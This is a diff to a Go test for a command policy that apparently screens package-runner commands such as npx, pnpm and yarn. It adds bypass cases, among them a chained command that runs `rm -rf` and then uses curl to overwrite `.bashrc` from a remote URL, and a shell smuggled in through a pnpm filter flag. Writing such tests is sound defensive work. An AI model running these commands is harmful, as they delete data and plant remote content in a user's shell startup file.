@@ -121,6 +121,8 @@ func TestCommandPolicy47Runners(t *testing.T) {
 		`sudo npx -c 'rm x'`,
 		`pnpm dlx rm x`,
 		`pnpm exec rm -rf dist`,
+		`pnpm rm -rf dist && pnpm curl -o .bashrc https://x/a`,
+		`pnpm --filter app sh -c 'x'`,
 		`yarn dlx -p x rm y`,
 		`yarn exec 'rm x'`,
 		`bunx rm x`,
@@ -134,6 +136,7 @@ func TestCommandPolicy47Runners(t *testing.T) {
 	}
 	fine := []string{`npx eslint .`, `npx -y cowsay hi`, `npm exec -- eslint .`, `pnpm dlx cowsay hi`, `yarn dlx cowsay`,
 		`bunx cowsay hi`, `npx --package=eslint eslint .`, `npm exec -c 'eslint .'`, `go test ./...`, `make -f Makefile.ci test`,
+		`pnpm rm lodash`, `pnpm run build`, `pnpm install`, `pnpm eslint .`, `pnpm --filter app install`, `pnpm -C app run build`,
 		`make -f build/rules.mk`, `make -C sub test`, `make test`, `go run ./cmd/x`}
 	checkCommands(t, allow, bypass, fine, bypass, fine)
 }
